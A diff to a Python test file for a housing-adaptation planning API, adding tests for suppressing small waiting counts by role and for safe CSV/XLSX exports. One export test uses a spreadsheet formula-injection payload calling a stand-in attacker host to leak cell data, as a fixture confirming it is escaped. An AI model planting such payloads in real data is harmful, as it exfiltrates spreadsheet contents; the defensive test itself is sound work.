@@ -135,21 +135,55 @@ def test_zero_budget_buys_nothing_and_bad_priorities_are_named(manager, stock):
     assert "priorities" in body["errors"]
 
 
+def _waiting(officer, count, districts, prefix):
+    for n in range(count):
+        body = {
+            "case_reference": f"{prefix}-{n}",
+            "needs": [{"limitation": "wheelchair_manual"}],
+            "districts": districts,
+        }
+        assert officer.post("/api/v1/applicants", json=body).status_code == 201
+
+
 def test_demand_priorities(manager, as_role, stock):
-    officer = as_role("allocation_officer")
-    for n in range(3):
-        officer.post(
-            "/api/v1/applicants",
-            json={
-                "case_reference": f"P-{n}",
-                "needs": [{"limitation": "wheelchair_manual"}],
-                "districts": ["Idd"],
-            },
-        )
+    _waiting(as_role("allocation_officer"), 5, ["Idd"], "P")
     plan = manager.post(
         "/api/v1/planning/portfolio", json={"budget": 5_000_000, "priorities": "demand"}
     ).get_json()
     assert plan["steps"] and all(s["district"] == "Idd" for s in plan["steps"])
+
+
+def test_small_waiting_counts_never_reach_a_role_without_applicant_access(manager, as_role, stock):
+    """value = waiting / (supply + 1): an answer from exact counts gives the counts away.
+    A facility manager's plan depends only on counts of 5 or more (as /stats/demand shows)."""
+    officer, admin = as_role("allocation_officer"), as_role("admin")
+    request = {"budget": 5_000_000, "priorities": "demand"}
+
+    def plans():
+        return [
+            c.post("/api/v1/planning/portfolio", json=request).get_json() for c in (manager, admin)
+        ]
+
+    _waiting(officer, 5, [], "Alle")  # published: 5 waiting with no district wish
+    managers_before, admins_before = plans()
+    assert managers_before["steps"]  # 5 is published, so it may weigh
+    _waiting(officer, 2, ["Idd"], "Idd")  # suppressed in the statistics: 2 waiting in Idd
+    managers_after, admins_after = plans()
+    assert managers_after == managers_before  # the 2 cannot be recovered by differencing
+    assert admins_after["value"] > admins_before["value"]  # who may read applicants: exact
+    _waiting(officer, 3, ["Idd"], "Idd2")  # now 5 in Idd: published, and it weighs
+    assert manager.post("/api/v1/planning/portfolio", json=request).get_json() != managers_before
+    stats = manager.get("/api/v1/stats/demand").get_json()["needs"]["wheelchair_manual"]
+    assert stats["Idd"]["waiting_households"] == 5
+
+
+def test_saved_scenarios_use_suppressed_counts(manager, as_role, stock):
+    admin = as_role("admin")
+    _waiting(as_role("allocation_officer"), 4, ["Idd"], "S")
+    request = {"budget": 5_000_000, "priorities": "demand"}
+    saved = admin.post("/api/v1/planning/scenarios", json={"name": "Behov", "request": request})
+    scenario = manager.get(f"/api/v1/planning/scenarios/{saved.get_json()['id']}").get_json()
+    assert scenario["result"]["value"] == 0 and scenario["result"]["steps"] == []
 
 
 def test_scenarios_and_compare(manager, as_role, stock):
@@ -203,3 +237,17 @@ def test_stale_plan_inputs_are_computed_or_refused(manager, stock, monkeypatch):
     monkeypatch.setattr(services, "ON_THE_FLY", 1000)
     plan = manager.post("/api/v1/planning/portfolio", json=request).get_json()
     assert plan["steps"]  # computed on the fly, then planned
+
+
+def test_exports_carry_addresses_as_inert_text(manager, make_user):
+    address = '=HYPERLINK("http://angriper.example/?d="&A1;"Se plan")'
+    unit = assessed_unit(make_user("inspector"), NARROW_DOOR, district="Idd", address=address)
+    request = {"budget": 2_000_000, "priorities": {"wheelchair_manual": 1}}
+    data = manager.post("/api/v1/planning/portfolio?format=csv", json=request).data
+    table = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
+    assert next(row[2] for row in table[1:] if row[1] == str(unit.id)) == "'" + address
+    xlsx = manager.post("/api/v1/planning/portfolio?format=xlsx", json=request).data
+    sheet = load_workbook(io.BytesIO(xlsx)).active
+    cells = [row[2] for row in sheet.iter_rows(min_row=2) if row[1].value == unit.id]
+    assert cells and cells[0].data_type == "s" and cells[0].value == "'" + address
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
